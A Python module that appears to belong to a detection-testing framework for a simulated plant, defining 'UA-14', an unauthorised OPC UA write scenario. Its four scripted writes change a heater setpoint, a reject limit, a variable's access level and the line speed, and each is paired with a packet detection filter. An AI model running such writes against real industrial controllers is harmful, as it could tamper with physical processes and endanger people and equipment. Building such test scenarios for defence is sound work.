"""UA-14 unauthorised write: on another server, to another node, to another attribute, and by another client.

Benign twin: mes writes the line's SpeedSetpoint as user `mes`.
"""

from __future__ import annotations

import asyncio

from asyncua import ua

from ..plan import machine
from ..plant.ua_client import client
from ..plant.ua_names import LINE, SKID, node_id
from .base import Act, Attack, text

WRITES = "opcua.servicenodeid.numeric == 673"
READ_AND_WRITE = 3


async def _write(
    station: str, server: str, user: str, node: str, attribute: ua.AttributeIds, value: ua.Variant
) -> None:
    async with client(machine(station), server, user) as session:
        await session.get_node(node_id(node)).write_attribute(attribute, ua.DataValue(value))


def _double(number: float) -> ua.Variant:
    return ua.Variant(number, ua.VariantType.Double)


def other_server() -> None:
    asyncio.run(_write("mes", "ua-skid1", "mes", f"{SKID}.HeaterSetpoint", ua.AttributeIds.Value, _double(98.0)))


def other_node() -> None:
    asyncio.run(_write("mes", "ua-line", "mes", f"{LINE}.RejectLimit", ua.AttributeIds.Value, _double(99.0)))


def other_attribute() -> None:
    access = ua.Variant(READ_AND_WRITE, ua.VariantType.Byte)
    asyncio.run(_write("mes", "ua-line", "engineer", f"{LINE}.ActualSpeed", ua.AttributeIds.AccessLevel, access))


def other_client() -> None:
    asyncio.run(_write("intruder", "ua-line", "lineop", f"{LINE}.SpeedSetpoint", ua.AttributeIds.Value, _double(200.0)))


ATTACK = Attack(
    "UA-14",
    text("未经授权的 OPC UA 写入", "An unauthorised OPC UA write"),
    (
        Act(
            "other-server",
            "mes",
            "ua-skid1",
            text(
                "MES 改写清洗站 1 的加热设定值，此前只读",
                "The MES rewrites skid 1's heater set point; so far it only read there",
            ),
            "asyncua",
            WRITES,
            other_server,
        ),
        Act(
            "other-node",
            "mes",
            "ua-line",
            text(
                "MES 改写产线控制器上从未写过的剔除限值",
                "The MES rewrites the line's reject limit, a node it never wrote",
            ),
            "asyncua",
            f'{WRITES} && opcua.nodeid.string == "{LINE}.RejectLimit"',
            other_node,
        ),
        Act(
            "other-attribute",
            "mes",
            "ua-line",
            text(
                "以工程师账号改写变量的访问级别(AccessLevel),而非数值",
                "As user engineer the AccessLevel of a variable is rewritten, not its value",
            ),
            "asyncua",
            f'{WRITES} && opcua.nodeid.string == "{LINE}.ActualSpeed"',
            other_attribute,
            also=("UA-01", "UA-04"),
        ),
        Act(
            "other-client",
            "intruder",
            "ua-line",
            text(
                "新设备用操作员账号改写产线速度", "A new device rewrites the line's speed with the operator's account"
            ),
            "asyncua",
            WRITES,
            other_client,
            also=("NET-01", "NET-06", "UA-01", "UA-02", "UA-15", "COR-02", "UA-04"),
        ),
    ),
)
